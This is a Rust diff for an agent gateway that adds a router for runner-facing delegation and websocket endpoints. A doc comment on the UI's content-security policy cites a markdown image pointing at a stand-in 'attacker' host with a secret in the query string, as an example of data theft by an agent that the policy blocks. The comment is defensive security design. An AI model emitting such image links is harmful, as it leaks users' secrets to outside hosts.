@@ -181,6 +181,24 @@ pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
     .with_state(state)
 }
 
+/// What runners reach on `--runner-listen`: starting and suspending their Session's children,
+/// and the mux for those children's agent frames; each answers only a session credential.
+/// Nothing a user reaches is served here, so the listener may face the runners' network.
+pub fn runner_router(state: Arc<AppState>) -> Router {
+    let api = Router::new()
+        .route("/delegation/children", post(delegation::start_child))
+        .route(
+            "/delegation/children/{child}/suspend",
+            post(delegation::suspend_child),
+        )
+        .route("/ws/mux", get(crate::mux::upgrade_runner))
+        .fallback(api_not_found);
+    Router::new()
+        .nest("/api", api)
+        .route("/healthz", get(|| async { "ok" }))
+        .with_state(state)
+}
+
 /// What the UI may load: its own scripts and styles, images only from itself (an agent that
 /// writes `![](https://attacker/?secret)` into the chat cannot make the browser send data
 /// anywhere), connections only to the gateway, no framing of the UI, no plugins. Inline styles are
